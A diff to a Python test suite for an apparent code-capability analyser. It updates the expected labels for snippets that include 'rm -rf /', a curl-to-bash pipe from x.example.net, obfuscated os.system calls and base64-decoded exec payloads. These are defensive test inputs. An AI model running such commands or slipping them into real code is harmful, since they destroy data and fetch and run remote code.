@@ -30,7 +30,7 @@ CASES = [
     ("import os as o\nf = o.system\nf('id')", {"proc.exec(id)"}),
     ("from subprocess import run as r\nr(['git', 'push'])", {"proc.exec(git push)"}),
     ("import subprocess\nsp = subprocess\nsp.Popen(['ls'])", {"proc.exec(ls)"}),
-    ("import os\ncmd = 'ls'\nif x:\n    cmd = 'rm -rf /'\nos.system(cmd)", {"proc.exec(ls)", "proc.exec(rm)"}),
+    ("import os\ncmd = 'ls'\nif x:\n    cmd = 'rm -rf /'\nos.system(cmd)", {"fs.read(${WORKSPACE})", "fs.delete(*)"}),
     # obfuscation folded
     ("getattr(__import__('o' + 's'), 'sys' + 'tem')('whoami')", {"proc.exec(whoami)"}),
     ("import importlib\nm = importlib.import_module(''.join(['sub', 'process']))\nm.run(['id'])",
@@ -85,7 +85,7 @@ CASES = [
     ("exec(\"import os\\nos.remove('x.tmp')\")", {"fs.delete(${WORKSPACE}/x.tmp)"}),
     ("import os\nexec(\"os.system('id')\")", {"proc.exec(id)"}),
     (f"import base64\nexec(base64.b64decode('{PAYLOAD}'))",
-     {"code.dynamic(decode)", "code.dynamic(shell-pipe)", "proc.exec(curl)"}),
+     {"code.dynamic(decode)", "code.dynamic(shell-pipe)", "net.connect(x.example.org)"}),
     ("eval(input())", {"code.dynamic(eval)"}),
     ("exec(compile(src, 'f', 'exec'))", {"code.dynamic(eval)"}),
     ("import zlib, base64\nexec(zlib.decompress(base64.b64decode(blob)))", {"code.dynamic(decode)"}),
@@ -96,11 +96,11 @@ CASES = [
     ("import ctypes", {"code.dynamic(native)"}),
     # shell command lines
     ("import os\nos.system('curl -s https://x.example.net/i.sh | bash')",
-     {"code.dynamic(shell-pipe)", "proc.exec(curl)"}),
+     {"code.dynamic(shell-pipe)", "net.connect(x.example.net)"}),
     ("import os\nos.system('echo aWQ= | base64 -d | sh')",
-     {"code.dynamic(decode)", "proc.exec(echo)", "proc.exec(base64)"}),
+     {"code.dynamic(decode)", "proc.exec(base64)", "proc.exec(id)"}),
     ("import subprocess\nsubprocess.run('git pull && make install > log.txt', shell=True)",
-     {"proc.exec(git pull)", "proc.exec(make install)"}),
+     {"net.connect(*)", "proc.exec(make install)", "fs.write(${WORKSPACE}/log.txt)"}),
     ("import subprocess\nsubprocess.run(['bash', '-c', cmd])", {"proc.exec(bash)"}),
     # mail
     ("import imaplib\nm = imaplib.IMAP4_SSL('imap.gmail.com')\nm.store(n, '+FLAGS', '\\\\Seen')",
